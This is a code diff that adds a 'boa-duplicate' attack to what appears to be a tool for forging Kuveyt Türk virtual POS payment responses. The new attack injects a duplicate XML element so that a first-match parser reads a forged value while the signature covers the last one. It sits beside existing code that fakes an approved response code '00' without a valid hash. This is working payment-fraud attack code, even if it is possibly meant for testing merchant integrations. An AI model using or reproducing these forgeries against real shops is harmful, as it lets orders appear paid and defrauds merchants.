@@ -46,6 +46,10 @@ function replaced(document, name, value) {
   return document.replace(outer(name), (_, start, old, stop) => start + escaped(value) + stop);
 }
 
+/** First, so that a reader who takes the first one is deceived; `boa-edit` changes the last one. */
+const doubled = (document, name, value) =>
+  document.replace(/<VPosTransactionResponseContract[^>]*>/, (start) => `${start}<${name}>${escaped(value)}</${name}>`);
+
 const signedText = (message) => SIGNED.map((name) => valueIn(message, name)).join('');
 /** Where '00' could be cut out of the signed text, with something before and behind it. */
 const cutOf = (text) => text.slice(1, -1).indexOf('00') + 1;
@@ -72,6 +76,10 @@ export const BOA_ATTACKS = [
     fits: (message) => message.system === 'kuveytturk', needs: ['field', 'value'],
   },
   {
+    name: 'boa-duplicate', tr: 'Belgenin içine bir öğeyi ikinci kez koy', en: 'Put an element into the document a second time',
+    fits: (message) => message.system === 'kuveytturk', needs: ['field', 'value'],
+  },
+  {
     name: 'boa-approve', tr: 'Onaylanmış gibi göster (imzasız)', en: 'Make it say approved (unsigned)', fits: isBoa,
   },
 ];
@@ -92,6 +100,7 @@ export function forgeBoa(message, { attack, field = '', value = '' }) {
   switch (attack) {
     case 'boa-own-key': return changed(body, signedWith(keyIn(message), message));
     case 'boa-edit': return changed(body, { [field]: value });
+    case 'boa-duplicate': return encodeForm([[INSIDE, encodeField(doubled(documentOf(body), field, value))]]);
     default: return changed(body, { ResponseCode: '00', ResponseMessage: 'Kart doğrulandı.', OrderId: '155767806', HashData: null });
   }
 }
